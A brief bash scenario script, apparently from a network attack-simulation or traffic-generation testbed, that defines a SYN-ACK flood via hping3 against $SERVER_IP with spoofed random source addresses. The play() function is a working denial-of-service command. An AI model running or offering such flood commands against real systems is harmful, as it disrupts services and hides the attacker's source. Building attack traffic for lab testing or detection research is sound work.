# shellcheck shell=bash
# about: SYN-ACK, as reflected by web servers (hping3)
# type: attack
# kind: synack_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -S -A -s 443 -k -p 40000 --rand-source
}
